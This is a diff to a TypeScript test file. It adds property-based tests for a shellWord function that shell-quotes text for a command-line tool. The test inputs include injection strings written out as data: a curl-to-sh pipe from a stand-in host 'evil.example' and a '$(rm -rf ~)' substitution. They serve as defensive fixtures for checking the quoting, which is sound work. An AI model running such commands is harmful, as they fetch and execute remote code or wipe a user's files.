@@ -1,7 +1,7 @@
 // tier: in-process
 import fc from 'fast-check';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { clip, jsonDocument, sanitize, tone } from '../../src/cli/render/text.js';
+import { clip, jsonDocument, sanitize, shellWord, tone } from '../../src/cli/render/text.js';
 import stringWidth from 'string-width';
 import { displayWidth, fit } from '../../src/cli/render/width.js';
 import { freshSeedNote, hostileChar, hostileString, SEEDS, UNSAFE_OUTPUT } from '../helpers/hostile-text.js';
@@ -127,6 +127,32 @@ describe('jsonDocument', () => {
         // What JSON itself can say: -0 is written 0 by JSON.stringify too.
         expect(JSON.parse(document)).toEqual(JSON.parse(JSON.stringify(value)));
         expect(document).not.toMatch(UNSAFE_OUTPUT);
+      }),
+      { seed, numRuns: 500 },
+    );
+  });
+});
+
+describe('shellWord', () => {
+  it('leaves a plain word alone and quotes anything a shell would read as more than one word', () => {
+    expect(shellWord('key_0fnfu8idtdapl2nb1ruh')).toBe('key_0fnfu8idtdapl2nb1ruh');
+    expect(shellWord('key_1; curl evil.example | sh')).toBe("'key_1; curl evil.example | sh'");
+    expect(shellWord("$(rm -rf ~)'`x`")).toBe("'$(rm -rf ~)'\\''`x`'");
+    expect(shellWord('')).toBe("''");
+    expect(shellWord('a\nb\x1b')).toBe("'a\\nb\\x1b'");
+  });
+
+  /** The one word a POSIX shell reads from `word`, or null when it reads it otherwise. */
+  const shellRead = (word: string): string | null => {
+    if (/^[\w.@%+=:,/-]+$/.test(word)) return word;
+    const quoted = /^'((?:[^']|'\\'')*)'$/.exec(word);
+    return quoted ? quoted[1]!.replaceAll("'\\''", "'") : null;
+  };
+
+  it.each(SEEDS)('is read by a shell as one word, the text as clip shows it ($pass seed $seed)', ({ seed }) => {
+    fc.assert(
+      fc.property(hostileString, (text) => {
+        expect(shellRead(shellWord(text))).toBe(clip(text, 200));
       }),
       { seed, numRuns: 500 },
     );
